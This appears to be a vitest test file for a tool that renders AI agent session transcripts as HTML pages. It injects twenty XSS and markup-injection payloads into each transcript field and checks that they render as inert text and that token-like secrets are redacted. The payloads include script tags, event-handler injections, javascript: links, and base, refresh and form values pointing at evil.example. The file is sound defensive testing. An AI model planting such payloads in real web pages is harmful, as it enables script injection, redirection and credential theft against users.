/** What a transcript can fill may be anything: on a page it is text, and no secret. */
import { join } from "node:path";
import { expect, test } from "vitest";
import { pageInput, sessionCard, sessionPage } from "../../src/page/page.ts";
import { sessionHandle } from "../../src/store/session-handle.ts";
import { Transcript } from "../kit/events.ts";
import { storeAt } from "../kit/store.ts";
import { scratch } from "../scratch-home.ts";

const PAYLOADS = [
	"<script>alert(1)</script>",
	"</p></li></section><img src=x onerror=alert(1)>",
	"</style><style>*{display:none}</style>",
	"</title><base href=//evil.example>",
	'" onmouseover="alert(1)',
	"' autofocus onfocus='alert(1)",
	"<svg onload=alert(1)>",
	"<iframe srcdoc='<script>1</script>'>",
	"<a href=javascript:alert(1)>x</a>",
	"[x](javascript:alert(1))",
	"![x](https://evil.example/p.png)",
	"<meta http-equiv=refresh content='0;url=//evil.example'>",
	"<form action=//evil.example><input name=a>",
	"<!-- --!><script>1</script>",
	"]]><script>1</script>",
	"&lt;script&gt;1&lt;/script&gt;",
	"<details open ontoggle=alert(1)>",
	"\u202e<b>\u2066",
	"<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
	"{{7*7}}${7*7}<%= 7 %>",
];
/** Each field that a transcript fills, by a payload. */
const FIELDS: Record<string, (transcript: Transcript, text: string) => Transcript> = {
	"a message": (one, text) => one.typed(text),
	"the agent's words": (one, text) => one.said(text),
	"a command": (one, text) => one.call("Bash", { command: text }, "done 42"),
	"its output": (one, text) => one.call("Bash", { command: "make" }, `${text}\n42 ${text}`),
	"a failure": (one, text) => one.call("Bash", { command: "make" }, text, { failed: true }),
	"a file's name": (one, text) => one.call("Edit", { file_path: `/p/${text}`, old_string: "a", new_string: "b" }, "ok"),
	"a tool's name": (one, text) => one.call(text, { description: text }, text),
	"a summary": (one, text) => one.boundary().summary(`It said ${text}. ${text}`),
	"a trigger": (one, text) => one.boundary(text).summary("none"),
	"a time": (one, text) =>
		one.line("user", { timestamp: text, message: { role: "user", content: "Hi." }, origin: { kind: "human" } }),
	"a block": (one, text) =>
		one.boundary().summary("x").given("hook_additional_context", `ccg recovery ${text}: ${text}`),
};
/** All that a page is made of. */
const TAGS = new Set(
	"html head meta title style body header h1 h2 h3 p code figure figcaption svg line polyline text circle nav ol ul li a main section div details summary mark pre span".split(
		" ",
	),
);
const ATTRIBUTES = new Set(
	"lang charset http-equiv content name id class tabindex dir href aria-label aria-labelledby role xmlns viewbox points x y x1 x2 y1 y2 cx cy r text-anchor".split(
		" ",
	),
);

/** What of a page is no markup of ccg's. */
function strangeParts(html: string): string[] {
	const strange: string[] = [];
	new HTMLRewriter()
		.on("*", {
			element({ tagName, attributes }) {
				if (!TAGS.has(tagName)) strange.push(tagName);
				for (const [name, value] of attributes) {
					const isLink = name !== "href" || value.startsWith("#c");
					if (!ATTRIBUTES.has(name.toLowerCase()) || !isLink) strange.push(`${tagName} ${name}=${value}`);
				}
			},
		})
		.transform(html);
	return strange;
}

const home = scratch("page-attack");
const made = (transcript: Transcript, folder: string) => {
	const path = transcript.usage(150_000).boundary().summary("The end.").usage(9_000).write(join(home, "s.jsonl"));
	const input = pageInput(sessionHandle(storeAt("/nowhere"), "s"), { transcript: path, folder, key: undefined });
	return { page: sessionPage(input), card: sessionCard(input) };
};

test.each(Object.keys(FIELDS))("%s: twenty payloads stay text", (field) => {
	for (const payload of PAYLOADS) {
		const { page, card } = made(FIELDS[field]!(new Transcript("/p").typed("Begin."), payload), payload);
		expect([payload, strangeParts(page)]).toEqual([payload, []]);
		expect(page.match(/<style>/g)).toHaveLength(1);
		expect(page).toContain("default-src 'none'; style-src 'sha256-");
		expect([payload, strangeParts(card.replace(/<style>.*?<\/style><rect[^>]*>/, ""))]).toEqual([payload, []]);
	}
});

test("a secret in any of them is taken out", () => {
	const secret = `ghp_${"aZ4kQ9mB2xW7".repeat(3)}`;
	for (const field of Object.keys(FIELDS)) {
		const { page, card } = made(FIELDS[field]!(new Transcript("/p").typed("Begin."), `use ${secret} now`), "p");
		expect([field, page.includes(secret), card.includes(secret)]).toEqual([field, false, false]);
	}
});

test("a secret across the end of what is kept of a text is taken out whole", () => {
	const secret = `ghp_${"aZ4kQ9mB2xW7".repeat(3)}`;
	for (const before of [270, 500, 1_980, 5_980]) {
		const command = `${"echo a; ".repeat(before / 8).slice(0, before)} ${secret} ${"; echo b".repeat(200)}`;
		for (const failed of [true, false]) {
			const transcript = new Transcript("/p").typed(command).call("Bash", { command }, command, { failed });
			expect([before, failed, made(transcript, "p").page.includes(secret.slice(0, 12))]).toEqual([
				before,
				failed,
				false,
			]);
		}
	}
});

test("a folder of the home at the end of a text takes no markup along", () => {
	for (const text of ["go to /home/alice", "cd /Users/bob"]) {
		const { page } = made(new Transcript("/p").typed(text).call("Bash", { command: text }, text), "p");
		expect([text, strangeParts(page), page.match(/<details>/g)?.length]).toEqual([
			text,
			[],
			page.match(/<\/details>/g)?.length,
		]);
		expect(page).toMatch(/<p class="said" dir="auto">\w+(?: to)? ~<\/p>/);
	}
});
